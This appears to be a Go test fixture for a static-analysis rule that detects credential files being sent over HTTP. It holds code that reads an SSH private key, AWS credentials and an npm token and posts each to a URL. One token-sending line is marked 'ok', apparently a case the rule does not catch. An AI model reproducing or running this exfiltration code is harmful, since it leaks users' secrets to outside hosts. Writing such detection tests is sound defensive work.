package main

import (
	"bytes"
	"net/http"
	"os"
)

func collect(home, url string) {
	key, _ := os.ReadFile(home + "/.ssh/id_rsa")
	// ruleid: go-credential-file-sent
	http.Post(url, "text/plain", bytes.NewReader(key))
	file, _ := os.Open("/home/dev/.aws/credentials")
	// ruleid: go-credential-file-sent
	http.Post(url, "text/plain", file)
	text, _ := os.ReadFile("report.txt")
	// ok: go-credential-file-sent
	http.Post(url, "text/plain", bytes.NewReader(text))
	npm, _ := os.ReadFile(home + "/.npmrc")
	token := findToken(npm)
	// ok: go-credential-file-sent
	http.Post(url, "text/plain", bytes.NewReader(token))
}
